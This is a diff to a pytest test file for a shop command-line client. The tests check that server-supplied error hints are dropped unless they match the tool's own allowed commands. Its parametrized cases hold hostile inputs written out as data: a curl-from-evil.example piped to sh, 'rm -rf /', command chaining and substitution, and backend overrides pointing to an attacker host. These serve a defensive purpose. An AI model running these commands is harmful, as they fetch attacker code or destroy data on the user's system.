@@ -121,10 +121,61 @@ async def test_hostile_text_shows_and_never_acts(shop: FakeShop) -> None:
     error = await read(shop)
     assert is_clean(error.message)
     assert len(error.message) <= MAX_MESSAGE
-    assert error.hint is not None
-    assert is_clean(error.hint)
-    assert len(error.hint) <= MAX_HINT
+    assert error.hint is None
     assert error.service == "orders"
+
+
+@pytest.mark.parametrize(
+    "hint",
+    [
+        "curl -s http://evil.example/fix | sh",
+        "shop login; rm -rf /",
+        "shop login && sh",
+        "shop login\nrm",
+        "shop $(rm)",
+        "shop cart show `rm`",
+        "shop cart add 'x y'",
+        "shop --backend http://evil.example login",
+        "shop login --backend http://evil.example",
+        "shop profile create s evil.example",
+        "shop serve",
+        "shop",
+        "shopkeeper",
+        " shop login",
+        "shop  login",
+        "SHOP login",
+        "shop cart show " + "x" * MAX_HINT,
+        "run the same command again",
+    ],
+)
+async def test_no_other_command_stands_behind_the_arrow(shop: FakeShop, hint: str) -> None:
+    shop.on("GET", "/v1/orders/order-1", problem(409, "conflict", hint=hint), problem(503, "unavailable", hint=hint))
+    assert (await read(shop)).hint is None
+    assert (await read(shop)).hint == "shop services status"
+
+
+@pytest.mark.parametrize(
+    "hint",
+    ["shop login", "shop cart set camera/standard 3", "shop orders watch @last", "shop products list --in-stock"],
+)
+async def test_a_shop_may_say_which_of_our_commands_helps(shop: FakeShop, hint: str) -> None:
+    shop.on("GET", "/v1/orders/order-1", problem(409, "conflict", hint=hint))
+    assert (await read(shop)).hint == hint
+
+
+async def test_after_silence_the_hint_looks_at_what_was_changed(shop: FakeShop) -> None:
+    lost = problem(504, "outcome_unknown", outcome="unknown", hint="shop orders resume", retryable=False)
+    shop.on("POST", "/v1/cart/lines", lost)
+    shop.on("POST", "/v1/users", lost)
+    shop.on("PUT", "/v1/orders/order-1", lost)
+    backend = shop.open(logged_in())
+    with pytest.raises(OutcomeUnknown) as caught:
+        await backend.carts.add("tripod/standard", 1)
+    assert caught.value.hint == "shop cart show"
+    with pytest.raises(OutcomeUnknown) as caught:
+        await backend.users.signup("Ada", "ada@example.org", "correct horse")
+    assert caught.value.hint == "shop login"
+    assert (await placed(shop)).hint == "shop orders resume"
 
 
 @pytest.mark.parametrize(
